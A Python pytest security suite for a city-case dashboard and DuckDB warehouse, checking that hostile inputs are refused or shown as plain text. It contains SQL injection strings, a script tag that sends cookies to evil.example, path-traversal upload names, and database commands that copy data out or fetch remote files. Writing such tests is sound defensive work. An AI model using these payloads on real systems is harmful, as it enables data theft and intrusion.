"""Attacks through every way a value gets in: filters and query parameters (SQL injection),
names and descriptions (HTML, script, Markdown), uploads (path traversal, size, type, garbage),
and the read-only query command. Each gets a clear refusal or is shown as plain text, and the
warehouse is unchanged."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import re
import shutil
from pathlib import Path

import pytest

from dashboard import maps, safe, uploads
from dashboard.filters import Filters
from orchestration.cli.warehouse import main as warehouse_main
from pipelines import profiles
from pipelines.load import load
from tests.helpers import case, open_tab, page_html, warehouse_copy, write_cases
from warehouse import marts, sql
from warehouse.db import Store

INJECTIONS = [
    "' OR '1'='1",
    "x'); DROP TABLE cases; --",
    "330125002' UNION SELECT password_hash FROM users --",
    "\\'; COPY cases TO '/tmp/stolen.csv'; --",
]
EXPLORER_QUERIES = [
    ("pages/explorer_summary", {"now": dt.datetime(2026, 10, 31), "due_end": dt.datetime(2026, 10, 31)}),
    ("pages/explorer_trend", {"unit": "day"}),
    ("pages/explorer_categories", {}),
    ("pages/explorer_channels", {}),
    ("pages/explorer_dow_hour", {}),
    ("pages/explorer_grids", {"now": dt.datetime(2026, 10, 31), "due_end": dt.datetime(2026, 10, 31)}),
    ("pages/explorer_sla", {"by": "department"}),
    ("pages/explorer_overdue", {"now": dt.datetime(2026, 10, 31)}),
    ("pages/explorer_repeats", {"min_cases": 3}),
    ("pages/explorer_cases", {"limit": 10}),
    ("pages/explorer_points", {"limit": 10}),
]


def counts(data: Path) -> tuple:
    with Store(data).reader() as con:
        return con.sql("SELECT (SELECT count(*) FROM cases), (SELECT count(*) FROM grids), (SELECT count(*) FROM disputes)").fetchone()


@pytest.mark.parametrize("field", ["street", "community", "grid", "major", "category", "channels", "departments", "statuses"])
def test_sql_injection_through_every_filter_finds_nothing_and_changes_nothing(loaded_city: Path, field: str):
    before = counts(loaded_city)
    with Store(loaded_city).reader() as con:
        ids = marts.code_ids(con)
        for attack in INJECTIONS:
            value = (attack,) if field in ("channels", "departments", "statuses") else attack
            f = dataclasses.replace(Filters(dt.date(2020, 1, 1), dt.date(2030, 1, 1)), **{field: value})
            for name, extra in EXPLORER_QUERIES:
                # the case queries bind the text itself; the mart queries its id (-1: unknown)
                frame = sql.query(con, name, **{**f.params(), **f.fact_params(ids), **extra})
                # explorer_grids lists every grid (with zero counts): count what was found instead
                found = int(frame["cases"].fill_null(0).sum()) if "cases" in frame.columns else frame.height
                assert found == 0, (field, attack, name)
    assert counts(loaded_city) == before


@pytest.mark.parametrize("attack", INJECTIONS)
def test_sql_injection_through_other_query_parameters(loaded_city: Path, attack: str):
    with Store(loaded_city).reader() as con:
        assert sql.query(con, "pages/dispute_detail", dispute_id=attack).height == 0
        assert sql.query(con, "pages/grid_disputes", grid_code=attack, until=dt.datetime(2030, 1, 1)).height == 0
        assert sql.query(con, "pages/grid_weekly_history", grid_code=attack, until=dt.date(2030, 1, 1), weeks=500).height == 0
        assert sql.query(con, "pages/assessment_trend", object_type=attack, object_code=attack).height == 0


def test_sql_files_never_format_values():
    """Every .sql file takes values as $parameters: no Python formatting placeholders at all."""
    for path in Path(sql.SQL_DIR).rglob("*.sql"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"\{[a-z_]+\}|%\(|%s", text), path


def test_script_and_markup_in_names_and_descriptions_stay_text(data: Path, tmp_path: Path):
    hostile = "<script>fetch('http://evil.example/'+document.cookie)</script><img src=http://evil.example/x.png>"
    s = load(data, profiles.resolve("canonical"), [write_cases(tmp_path / "h.csv", [case("H1", description=hostile, grid_code="")])])
    assert s.inserted == 1
    with Store(data).reader() as con:
        stored = con.sql("SELECT description FROM cases").fetchone()[0]
    assert stored == hostile  # kept as data, never interpreted on the way in
    # deck.gl tooltips are HTML templates: every text property is escaped
    import polars as pl

    shapes = pl.DataFrame({"grid_code": ["G1"], "grid_name": [hostile], "geojson": ['{"type":"Point","coordinates":[0,0]}']})
    feature = maps.grid_features(shapes, pl.DataFrame({"grid_code": ["G1"], "cases": [1]}), "cases", {"grid_name": ""})["features"][0]
    assert "<script>" not in feature["properties"]["grid_name"] and "&lt;script&gt;" in feature["properties"]["grid_name"]
    # the explorer's SVG map: hover texts and codes are attribute values, quotes escaped too
    import numpy as np

    square = '{"type":"Polygon","coordinates":[[[0,0],[0.01,0],[0.01,0.01],[0,0.01],[0,0]]]}'
    box = {"x_min": [0.0], "x_max": [0.01], "y_min": [0.0], "y_max": [0.01]}
    regions = pl.DataFrame({"level": ["street"], "code": ["s"], "name": [hostile], "geojson": [square], "lon": [0.005], "lat": [0.005]})
    base = maps.svg_base(pl.DataFrame({"grid_code": ["G1"], "geojson": [square], **box}), regions, 100, 100)
    svg = maps.explorer_svg(base, ["G1' onclick='x"], np.array([1.0]), [hostile + "' onmouseover='alert(1)"])
    assert "<script" not in svg and "<img" not in svg and "onmouseover=" not in svg.replace("onmouseover=&#x27;", "")
    assert "data-tip='&lt;script&gt;" in svg and "&#x27; onclick=&#x27;x" in svg
    # Markdown: a link or an image from the data must not render (it would fetch from outside)
    escaped = safe.md("纠纷类型为[点我](http://evil.example) ![x](http://evil.example/x.png)")
    assert "](" not in escaped.replace("\\](", "")
    assert escaped.count("\\[") == 2 and escaped.count("\\!") == 1


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("../../etc/cron.d/evil.csv", None),  # path parts are dropped: stored as evil.csv, inside uploads/
        ("..", "not a plain file name"),
        (".hidden.csv", "not a plain file name"),
        ("payload.exe", "only .csv"),
        ("cases.csv\x00.exe", "not a plain file name"),
        ("C:\\Windows\\system32\\cases.csv", None),
    ],
)
def test_upload_names_cannot_escape_the_uploads_folder(data: Path, name: str, why: str | None):
    if why:
        with pytest.raises(uploads.UploadError, match=why):
            uploads.save(data, name, b"case_id\n1\n", 1000)
        assert not (data / "uploads").exists() or not any((data / "uploads").iterdir())
    else:
        path = uploads.save(data, name, b"case_id\n1\n", 1000)
        assert path.parent == (data / "uploads").resolve() and path.name.endswith("cases.csv" if "cases" in name else "evil.csv")


def test_oversized_empty_and_garbage_uploads_are_refused_and_change_nothing(loaded_city: Path, tmp_path: Path):
    data = tmp_path / "city"
    shutil.copytree(loaded_city, data, ignore=shutil.ignore_patterns("raw"))
    before = (counts(data), Store(data).current())
    with pytest.raises(uploads.UploadError, match="more than the 1,000 allowed"):
        uploads.save(data, "big.csv", b"x" * 1001, 1000)
    with pytest.raises(uploads.UploadError, match="empty"):
        uploads.save(data, "empty.csv", b"", 1000)
    garbage = uploads.save(data, "garbage.csv", b"\x00\x01\x02 not a csv at all \xff\xfe", 10_000)
    with pytest.raises(uploads.UploadError, match="^garbage.csv: not valid utf-8"):
        uploads.load_upload(data, "canonical", garbage, actor="test")
    assert not garbage.exists()  # a refused upload is not kept
    evil = uploads.save(data, "evil.csv", b"case_id\n1\n", 10_000)
    with pytest.raises(uploads.UploadError, match="not a built-in profile"):
        uploads.load_upload(data, "../../../tmp/evil", evil, actor="test")
    assert (counts(data), Store(data).current()) == before


@pytest.mark.parametrize(
    "attack",
    [
        "COPY cases TO '/tmp/gp_stolen.csv'",
        "ATTACH '/tmp/gp_other.duckdb' AS other",
        "INSTALL httpfs",
        "SELECT * FROM read_parquet('http://evil.example/x.parquet')",
        "CREATE TABLE x AS SELECT 1",
        "PRAGMA enable_external_access",
        "SELECT 1; DELETE FROM cases",
    ],
)
def test_warehouse_query_stays_read_only(loaded_city: Path, attack: str, capsys):
    before = counts(loaded_city)
    assert warehouse_main(["--data", str(loaded_city), "query", attack]) == 2
    assert capsys.readouterr().err.strip()
    assert counts(loaded_city) == before
    assert not Path("/tmp/gp_stolen.csv").exists()


def test_markup_in_names_is_text_in_every_chart(loaded_city: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Plotly renders <a href>, <b> and <span style> in labels: a category or department named
    with markup must show as written, never as a link or styled text (wall and explorer)."""

    from streamlit.testing.v1 import AppTest

    from tests.helpers import sign_in
    from warehouse.db import connect

    city = tmp_path / "city"
    warehouse_copy(loaded_city, city)
    link = '<a href="http://evil.example/">点我</a><b>加粗</b><span style="font-size:90px">大</span>'
    con = connect(Store(city).current().path)  # names as a hostile source would have loaded them
    con.execute("UPDATE categories SET category_name = ?", [link])
    con.execute("UPDATE departments SET department_name = ?", [link])
    con.close()
    monkeypatch.setenv("GRIDPULSE_DATA", str(city))
    monkeypatch.delenv("GRIDPULSE_STORE_URL", raising=False)
    at = sign_in(AppTest.from_file(str(Path(__file__).resolve().parent.parent / "dashboard" / "app.py"), default_timeout=120))
    at.run()
    charts = [c.proto.spec for c in at.get("plotly_chart")]
    ranking = next(h for h in page_html(at) if h.startswith("<div class='gp-rankings'>"))  # the wall's lists are HTML
    assert "&lt;a href=" in ranking and "<a href" not in ranking
    at.switch_page("views/explorer.py").run()
    charts += [c.proto.spec for c in at.get("plotly_chart")]
    open_tab(at, "tab_sla")  # department names are drawn in the time-to-close boxes
    charts += [c.proto.spec for c in at.get("plotly_chart")]
    assert not at.exception and len(charts) >= 6
    text = "\n".join(json.dumps(json.loads(spec), ensure_ascii=False) for spec in charts)
    assert "&lt;a href=" in text  # the names are there, escaped
    assert "<a href" not in text and "<b>" not in text and "<span" not in text


@pytest.mark.parametrize(
    ("attack", "said"),
    [
        ("SET VARIABLE x = 1", "a SET statement is refused"),
        ("LOAD spatial", "a LOAD statement is refused"),
        ("CALL enable_logging()", "a CALL statement is refused"),
        ("SELECT * FROM enable_logging()", "enable_logging() changes the server's state"),
        ("SELECT 1; SELECT 2", "one statement at a time (2 given)"),
    ],
)
def test_warehouse_query_refuses_state_changes_in_one_line(loaded_city: Path, attack: str, said: str, capsys):
    """Statements that crashed or printed a traceback (SET VARIABLE, LOAD, CALL enable_logging)
    are refused before they run: exit 2, one line naming why (issue 15)."""
    assert warehouse_main(["--data", str(loaded_city), "query", attack]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and said in err and err.count("\n") == 1 and "Traceback" not in err


def test_warehouse_query_is_stopped_at_its_time_limit(loaded_city: Path, tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch):
    config = tmp_path / "limits.toml"
    config.write_text("[warehouse]\nquery_seconds = 0.5\n", encoding="utf-8")
    monkeypatch.setenv("GRIDPULSE_CONFIG", str(config))
    slow = "SELECT count(*) FROM range(100000000000) AS t(i) WHERE i % 7 = 3"
    assert warehouse_main(["--data", str(loaded_city), "query", slow]) == 2
    assert "ran longer than 0.5 s and was stopped ([warehouse] query_seconds)" in capsys.readouterr().err


def test_warehouse_query_writes_nested_values_to_csv_as_json(loaded_city: Path, capsys):
    assert warehouse_main(["--data", str(loaded_city), "query", "SELECT [1, 2] AS l, {'a': '井盖'} AS s", "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines() == ["l,s", '"[1, 2]","{""a"": ""井盖""}"']
